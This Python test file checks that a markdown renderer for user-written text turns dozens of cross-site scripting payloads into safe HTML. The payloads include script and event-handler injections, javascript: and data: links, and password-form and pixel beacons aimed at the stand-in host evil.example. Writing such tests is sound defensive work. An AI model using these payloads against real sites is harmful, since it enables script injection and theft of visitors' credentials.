"""Text that people write becomes safe HTML, whatever it is."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from editorial.text import plain, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=x><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p style='position:fixed'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://example.dk "onmouseover=alert(1)")',
    '[x](https://example.dk"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    "\x00<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
]


class Tags(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


ALLOWED = {"p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote", "h3", "h4", "code", "pre", "hr", "table",
           "thead", "tbody", "tr", "th", "td"}  # fmt: skip


def assert_safe(html: str) -> None:
    """Only our elements, no attribute that acts, only addresses of the web and of mail."""
    for tag, attributes in Tags(html).found:
        assert tag in ALLOWED, html
        assert set(attributes) <= {"href", "title", "rel", "start"}, html
        if href := attributes.get("href"):
            scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", href)
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, html


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_become_text(text: str) -> None:
    """In HTML and in plain text."""
    assert_safe(render_markdown(text))
    assert not re.search(r"<(script|img|svg|iframe)\b[^>]*>", str(render_markdown(text)), re.I)


@given(st.text(alphabet=st.sampled_from("<>\"'`[]()!#*_-|:/\\& \n\tabjavscriptx=&;0\x00"), max_size=120))
def test_nothing_gets_through(text: str) -> None:
    """Any text, made of what attacks are made of."""
    assert_safe(render_markdown(text))
    plain(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Stor\n\n##### Lille", "<h3>Stor</h3>\n<h4>Lille</h4>\n"),
        ("*a* **b**", "<p><em>a</em> <strong>b</strong></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("Æ & Å", "<p>Æ &amp; Å</p>\n"),
        ("", ""),
        (
            "[x](https://example.dk)",
            '<p><a href="https://example.dk" rel="nofollow noopener ugc">x</a></p>\n',
        ),
    ],
)
def test_what_people_write_looks_as_they_meant(text: str, html: str) -> None:
    """Headings never above those of the page."""
    assert str(render_markdown(text)) == html


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("**Fed** og _skæv_", "Fed og skæv"),
        ("R&D, 3 < 5 og \"ja\" og 'nej'", "R&D, 3 < 5 og \"ja\" og 'nej'"),
        ("- et\n- to", "et to"),
        ("[link](https://example.dk)", "link"),
        ("<script>x</script>", "<script>x</script>"),
        ("&amp; bliver &", "& bliver &"),
    ],
)
def test_plain_text_is_what_a_reader_reads(text: str, words: str) -> None:
    """No markup, no character references: whoever shows it escapes it."""
    assert plain(text) == words
